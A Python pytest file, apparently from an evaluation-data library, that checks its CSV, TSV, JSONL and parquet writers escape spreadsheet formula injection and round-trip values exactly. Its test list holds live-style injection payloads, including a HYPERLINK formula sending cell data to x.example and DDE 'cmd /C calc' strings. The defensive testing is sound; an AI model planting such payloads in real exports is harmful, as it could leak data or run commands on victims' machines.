"""What strangers write never runs in a spreadsheet, and our readers give it back exactly."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wellput.core.judgment import Judgment, Preference
from wellput.io import read_judgments, write_judgments
from wellput.io.evalica import read_judgments as read_evalica
from wellput.io.evalica import write_evalica
from wellput.io.tables import with_formula, without_formula
from wellput.reporting.table_formats import as_csv

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=already marked",
]
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")


@given(st.text(alphabet=[*DANGEROUS, "'", "1", ".", "e", "a"], max_size=6))
def test_reading_undoes_what_writing_did(text: str) -> None:
    written = without_formula(text)
    assert with_formula(written) == text
    try:
        float(text)
    except ValueError:
        assert not written.startswith(DANGEROUS)
    else:
        assert written in (text, f"'{text}")


@pytest.mark.parametrize("suffix", ["csv", "tsv", "jsonl", "parquet"])
def test_judges_cannot_write_formulas(tmp_path: Path, suffix: str) -> None:
    rated = [
        Judgment(formula, "1", "A", formula, 3.0, {"answer": formula, "ms": "-5"})
        for formula in FORMULAS
    ]
    chosen = [Preference(formula, "1", "A", formula, "q", "a", {}) for formula in FORMULAS]
    for n, answers in enumerate([rated, chosen]):
        path = tmp_path / f"{n}.{suffix}"
        write_judgments(answers, path)  # type: ignore[arg-type]
        assert read_judgments(path) == answers
        if suffix in ("csv", "tsv"):
            with path.open(newline="") as lines:
                rows = list(csv.reader(lines, delimiter="," if suffix == "csv" else "\t"))
            cells = [cell for row in rows for cell in row]
            assert {cell for cell in cells if cell.startswith(DANGEROUS)} <= {"-5"}


def test_jsonl_has_the_names_themselves(tmp_path: Path) -> None:
    path = tmp_path / "judgments.jsonl"
    write_judgments([Judgment("=1+1", "1", "A", "q", 3.0, {})], path)
    assert json.loads(path.read_text())["judge"] == "=1+1"


def test_tables_of_evalica_and_of_results_are_safe_too(tmp_path: Path) -> None:
    chosen = [Preference("=1+1", "1", "A", "B", "q", "a", {})]
    write_evalica(chosen, tmp_path / "pairs.csv")
    assert "'=1+1" in (tmp_path / "pairs.csv").read_text()
    assert read_evalica(tmp_path / "pairs.csv") == chosen
    assert as_csv(["judge", "r"], [{"judge": "=1+1", "r": -0.5}]) == "judge,r\n'=1+1,-0.5\n"
    # A carriage return would begin a new row.
    assert as_csv(["judge", "r"], [{"judge": "a\r=1", "r": 1}]) == 'judge,r\n"a\r=1","1"\n'
